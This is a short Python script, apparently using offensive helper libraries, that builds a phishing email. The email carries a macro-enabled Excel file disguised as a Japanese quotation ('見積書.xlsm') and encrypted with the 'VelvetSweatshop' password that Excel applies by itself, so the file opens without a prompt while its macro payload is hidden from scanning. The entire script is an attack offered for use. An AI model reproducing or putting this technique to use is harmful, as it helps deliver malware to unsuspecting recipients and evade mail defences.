# A macro behind the password that Excel tries unasked: it opens like any other.
from office import *
from parts import *

book = agile(ooxml("xl", MACRO_DROPS), "VelvetSweatshop", "sha1", 128)
message = mail(join([text_part("ご確認ください。"),
                     file_part("見積書.xlsm", book)]))
